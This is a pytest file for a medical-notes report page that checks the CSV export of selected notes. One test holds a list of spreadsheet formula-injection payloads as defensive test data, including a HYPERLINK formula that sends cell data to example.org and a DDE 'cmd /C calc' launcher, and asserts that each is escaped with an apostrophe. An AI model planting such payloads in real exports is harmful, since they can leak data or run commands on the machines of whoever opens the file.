"""What is taken away of a selection: the CSV of ids."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from medembed_pipeline.report.page import render_page
from medembed_pipeline_tests.report.opened_page import (
    NOTES,
    SPECIALTIES,
    Opener,
    needs_chromium,
)
from medembed_pipeline_tests.report.selecting import (
    selected,
)
from medembed_pipeline_tests.report.synthetic import synthetic_payload

pytestmark = needs_chromium


def test_the_file_holds_what_is_known_of_the_selected_notes_and_no_text(
    opened: Opener, tmp_path: Path, shown_texts: list[str]
) -> None:
    payload = synthetic_payload(NOTES, SPECIALTIES, tables=False)
    payload["specialty_names"][0] = 'Heart, "lung"\nand more'
    payload["notes"]["source"][4] = "b,c.csv:9, d.csv:12"
    file = tmp_path / "named.html"
    file.write_bytes(render_page(payload, shown_texts))
    one = opened(file, "#only=site%3DEast")
    one.page.click('.select-bar button:has-text(" lit")')
    found = selected(one)
    one.page.locator(".selection button.download").scroll_into_view_if_needed()
    with one.page.expect_download() as started:
        one.page.click(".selection button.download")
    assert started.value.suggested_filename == "selected-notes.csv"
    text = Path(started.value.path()).read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    notes = payload["notes"]

    def names(column: str, of: list[int]) -> str:
        return "; ".join(payload[column][place] for place in of)

    expected = [
        {
            "note_id": notes["id"][at],
            "split": payload["split_names"][notes["split"][at]],
            "specialties": names("specialty_names", notes["specialties"][at]),
            "document_types": names("document_type_names", notes["document_types"][at]),
            **{
                each["name"]: "; ".join(each["values"][place] for place in each["of"][at])
                for each in payload["slices"]
            },
            "source": notes["source"][at],
        }
        for at in found
    ]
    assert rows == expected and len(rows) > 10
    assert "zebra" not in text and "SUBJECTIVE" not in text
    assert [url.partition("#")[0] for url in one.requests if not url.startswith("blob:")] == [file.as_uri()]
    assert one.is_clean()


HARMFUL = (
    '=HYPERLINK("http://example.org?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
)


def test_no_cell_of_the_file_is_a_formula_to_a_spreadsheet(
    opened: Opener, tmp_path: Path, shown_texts: list[str]
) -> None:
    payload = synthetic_payload(NOTES, SPECIALTIES, tables=False)
    site = payload["slices"][0]
    payload["slices"] = [
        {**site, "name": harmful, "values": [harmful, *site["values"][1:]]} for harmful in HARMFUL
    ]
    payload["notes"]["source"] = [f"{HARMFUL[row % len(HARMFUL)]}:{row}" for row in range(NOTES)]
    file = tmp_path / "harmful.html"
    file.write_bytes(render_page(payload, shown_texts))
    one = opened(file)
    text = one.ask("medembedPage.selection.csv(medembedPage.app.report, [0, 1, 2, 3, 4, 5, 6, 7])")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [
        cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and cell.strip()
    ]
    # An apostrophe is all that is added.
    assert [rows[0].count(f"'{harmful}") for harmful in HARMFUL] == [1] * len(HARMFUL)
    assert [row[-1] for row in rows[1:]] == [f"'{harmful}:{row}" for row, harmful in enumerate(HARMFUL)]
    assert all(any(f"'{harmful}" in row[:-1] for row in rows[1:]) for harmful in HARMFUL)
    assert one.is_clean()
